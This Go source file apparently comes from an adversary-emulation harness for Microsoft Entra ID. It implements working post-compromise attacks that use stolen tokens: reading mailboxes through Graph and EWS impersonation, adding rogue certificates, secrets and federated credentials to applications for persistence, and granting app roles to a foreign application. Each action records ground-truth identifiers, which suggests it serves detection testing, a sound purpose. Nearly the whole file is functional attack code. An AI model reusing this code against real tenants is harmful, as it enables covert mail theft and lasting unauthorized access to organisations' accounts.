// SPDX-License-Identifier: Apache-2.0

package entra

import (
	"bytes"
	"cmp"
	"context"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"math/big"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"time"
)

// TokenOnGraph reads the newest messages of a mailbox with a token that was
// stolen: no sign-in is seen.
func (a *Adversary) TokenOnGraph(ctx context.Context, tenant, token, mailbox string) (Truth, error) {
	t := Truth{Kind: KindTokenOnGraph, Tenant: tenant, UTI: readableUTI(token)}
	err := a.graph(ctx, &t, token, http.MethodGet, "/v1.0/users/"+url.PathEscape(mailbox)+"/messages?$top=10", nil, nil)
	return t, err
}

// TokenOnExchange reads the inbox of a mailbox with a stolen token by EWS: it
// finds what is there and gets the items. The token is for Exchange.
func (a *Adversary) TokenOnExchange(ctx context.Context, tenant, token, mailbox string) (Truth, error) {
	t := Truth{Kind: KindTokenOnExchange, Tenant: tenant, UTI: readableUTI(token)}
	var found struct {
		Items []struct {
			ID string `xml:"Id,attr"`
		} `xml:"Body>FindItemResponse>ResponseMessages>FindItemResponseMessage>RootFolder>Items>Message>ItemId"`
	}
	if err := a.ews(ctx, &t, token, mailbox, findInbox, &found); err != nil || t.Refused != "" || len(found.Items) == 0 {
		return t, err
	}
	var ids strings.Builder
	for _, item := range found.Items {
		ids.WriteString(`<t:ItemId Id="` + item.ID + `"/>`)
	}
	body := `<m:GetItem><m:ItemShape><t:BaseShape>AllProperties</t:BaseShape></m:ItemShape><m:ItemIds>` + ids.String() + `</m:ItemIds></m:GetItem>`
	return t, a.ews(ctx, &t, token, mailbox, body, nil)
}

const findInbox = `<m:FindItem Traversal="Shallow"><m:ItemShape><t:BaseShape>IdOnly</t:BaseShape></m:ItemShape>` +
	`<m:IndexedPageItemView MaxEntriesReturned="10" Offset="0" BasePoint="Beginning"/>` +
	`<m:ParentFolderIds><t:DistinguishedFolderId Id="inbox"/></m:ParentFolderIds></m:FindItem>`

// ews posts a SOAP request in the name of a mailbox, and notes its id.
func (a *Adversary) ews(ctx context.Context, t *Truth, token, mailbox, body string, into any) error {
	var name bytes.Buffer
	if err := xml.EscapeText(&name, []byte(mailbox)); err != nil {
		return fmt.Errorf("couldn't encode the name of a mailbox: %w", err)
	}
	envelope := `<?xml version="1.0" encoding="utf-8"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"` +
		` xmlns:t="http://schemas.microsoft.com/exchange/services/2006/types" xmlns:m="http://schemas.microsoft.com/exchange/services/2006/messages">` +
		`<s:Header><t:RequestServerVersion Version="Exchange2016"/><t:ExchangeImpersonation><t:ConnectingSID><t:SmtpAddress>` +
		name.String() + `</t:SmtpAddress></t:ConnectingSID></t:ExchangeImpersonation></s:Header><s:Body>` + body + `</s:Body></s:Envelope>`
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, a.servers.URLs[ServiceOutlook]+"/EWS/Exchange.asmx", strings.NewReader(envelope))
	if err != nil {
		return fmt.Errorf("couldn't ask Exchange: %w", err)
	}
	req.Header.Set("Content-Type", "text/xml; charset=utf-8")
	req.Header.Set("X-AnchorMailbox", mailbox)
	answer, err := a.call(req, t, token)
	if err != nil {
		return err
	}
	if code := ewsFailure(answer); code != "" && t.Refused == "" {
		t.Refused = code
	}
	if into == nil || t.Refused != "" {
		return nil
	}
	if err := xml.Unmarshal(answer, into); err != nil {
		return fmt.Errorf("couldn't read the answer of Exchange: %w", err)
	}
	return nil
}

// graph calls Graph with a token, and notes the id of the request. The answer
// is decoded into into where it is not nil and the call was let through.
func (a *Adversary) graph(ctx context.Context, t *Truth, token, method, path string, body, into any) error {
	raw, err := json.Marshal(body)
	if err != nil {
		return fmt.Errorf("couldn't encode a request: %w", err)
	}
	if body == nil {
		raw = nil
	}
	req, err := http.NewRequestWithContext(ctx, method, a.servers.Graph+path, bytes.NewReader(raw))
	if err != nil {
		return fmt.Errorf("couldn't ask Graph: %w", err)
	}
	req.Header.Set("Content-Type", "application/json")
	answer, err := a.call(req, t, token)
	if err != nil || into == nil || t.Refused != "" {
		return err
	}
	if err := json.Unmarshal(answer, into); err != nil {
		return fmt.Errorf("couldn't read the answer of Graph: %w", err)
	}
	return nil
}

// call sends a request with a token.
func (a *Adversary) call(req *http.Request, t *Truth, token string) ([]byte, error) {
	req.Header.Set("Authorization", "Bearer "+token)
	req.Header.Set("client-request-id", freshID())
	status, header, body, err := a.do(req)
	if err != nil {
		return nil, fmt.Errorf("couldn't call %s: %w", req.URL.Host, err)
	}
	t.Time, t.Address, t.CorrelationID = a.now(), a.address, req.Header.Get("client-request-id")
	t.RequestIDs = append(t.RequestIDs, header.Get("request-id"))
	if status >= 400 {
		var failed struct{ Error struct{ Code string } }
		if json.Unmarshal(body, &failed) != nil {
			failed.Error.Code = ""
		}
		t.Refused = cmp.Or(failed.Error.Code, strconv.Itoa(status))
	}
	return body, nil
}

// AddCredential adds a certificate of its own to an application, or to a service
// principal, beside the others: with a proof of the stolen key where there is
// one, and by the right to write applications otherwise. Object is the object
// id. What it returns signs in from then on.
func (a *Adversary) AddCredential(ctx context.Context, tenant, token string, s Stolen, kind Kind, object string) (Truth, Stolen, error) {
	own, err := newStolen(s.Application, a.now())
	if err != nil {
		return Truth{}, Stolen{}, err
	}
	key := map[string]any{
		"type": "AsymmetricX509Cert", "usage": "Verify", "displayName": "CN=" + own.Certificate.Subject.CommonName,
		"key": base64.StdEncoding.EncodeToString(own.Certificate.Raw),
	}
	path := "/v1.0/applications/" + object
	if kind == KindAddedToPrincipal {
		path = "/v1.0/servicePrincipals/" + object
	}
	proof, err := s.assertion("00000002-0000-0000-c000-000000000000", object, a.now())
	if err != nil {
		return Truth{}, Stolen{}, err
	}
	t := Truth{Kind: kind, Tenant: tenant, Application: s.Application, UTI: readableUTI(token)}
	var added struct {
		KeyID string `json:"keyId"`
	}
	err = a.graph(ctx, &t, token, http.MethodPost, path+"/addKey", map[string]any{"keyCredential": key, "passwordCredential": nil, "proof": proof}, &added)
	t.KeyID = added.KeyID
	return t, own, err
}

// AddSecret adds a secret, which needs no proof but the right to write
// applications.
func (a *Adversary) AddSecret(ctx context.Context, tenant, token, application string, kind Kind, object string) (Truth, Stolen, error) {
	path := "/v1.0/applications/" + object
	if kind == KindAddedToPrincipal {
		path = "/v1.0/servicePrincipals/" + object
	}
	t := Truth{Kind: kind, Tenant: tenant, Application: application, UTI: readableUTI(token)}
	var added struct{ KeyID, SecretText string }
	err := a.graph(ctx, &t, token, http.MethodPost, path+"/addPassword", map[string]any{"passwordCredential": map[string]any{"displayName": "backup"}}, &added)
	t.KeyID = added.KeyID
	return t, Stolen{Application: application, Secret: added.SecretText}, err
}

// AddFederation makes an application trust a foreign issuer.
func (a *Adversary) AddFederation(ctx context.Context, tenant, token, application, object, issuer, subject string) (Truth, error) {
	t := Truth{Kind: KindAddedFederation, Tenant: tenant, Application: application, UTI: readableUTI(token)}
	var added struct{ ID string }
	err := a.graph(ctx, &t, token, http.MethodPost, "/v1.0/applications/"+object+"/federatedIdentityCredentials", map[string]any{
		"name": "ci", "issuer": issuer, "subject": subject, "audiences": []string{"api://AzureADTokenExchange"},
	}, &added)
	t.KeyID = added.ID
	return t, err
}

// ForeignApplication brings an application of the thief's own tenant into
// another, gives it a role of a resource there, and so reads mail without any key
// of the tenant. The token may write applications and assign roles.
func (a *Adversary) ForeignApplication(ctx context.Context, tenant, token, application, resource, role string) (Truth, error) {
	t := Truth{Kind: KindForeignApp, Tenant: tenant, Application: application, UTI: readableUTI(token)}
	var principal struct{ ID string }
	err := a.graph(ctx, &t, token, http.MethodPost, "/v1.0/servicePrincipals", map[string]any{"appId": application}, &principal)
	if err != nil || t.Refused != "" {
		return t, err
	}
	return t, a.graph(ctx, &t, token, http.MethodPost, "/v1.0/servicePrincipals/"+principal.ID+"/appRoleAssignments", map[string]any{
		"principalId": principal.ID, "resourceId": resource, "appRoleId": role,
	}, nil)
}

// newStolen makes a key of the thief's own with a certificate that it signs itself.
func newStolen(application string, now time.Time) (Stolen, error) {
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		return Stolen{}, fmt.Errorf("couldn't make a key: %w", err)
	}
	template := &x509.Certificate{
		SerialNumber: big.NewInt(now.UnixNano()), Subject: pkix.Name{CommonName: "mail connector"},
		NotBefore: now.Add(-time.Hour), NotAfter: now.AddDate(2, 0, 0),
	}
	der, err := x509.CreateCertificate(rand.Reader, template, template, key.Public(), key)
	if err != nil {
		return Stolen{}, fmt.Errorf("couldn't make a certificate: %w", err)
	}
	cert, err := x509.ParseCertificate(der)
	if err != nil {
		return Stolen{}, fmt.Errorf("couldn't make a certificate: %w", err)
	}
	return Stolen{Application: application, Certificate: cert, Key: key}, nil
}

// ewsFailure is the code of the first error in an answer of Exchange, if there is
// one: of a fault, or of a message of class Error.
func ewsFailure(answer []byte) string {
	decoder := xml.NewDecoder(bytes.NewReader(answer))
	failed := false
	for {
		token, err := decoder.Token()
		if err != nil {
			return ""
		}
		start, ok := token.(xml.StartElement)
		if !ok {
			continue
		}
		if start.Name.Local == "Fault" || slices.ContainsFunc(start.Attr, func(a xml.Attr) bool { return a.Name.Local == "ResponseClass" && a.Value == "Error" }) {
			failed = true
		}
		if failed && start.Name.Local == "ResponseCode" {
			var code string
			if decoder.DecodeElement(&code, &start) != nil {
				return ""
			}
			return code
		}
	}
}
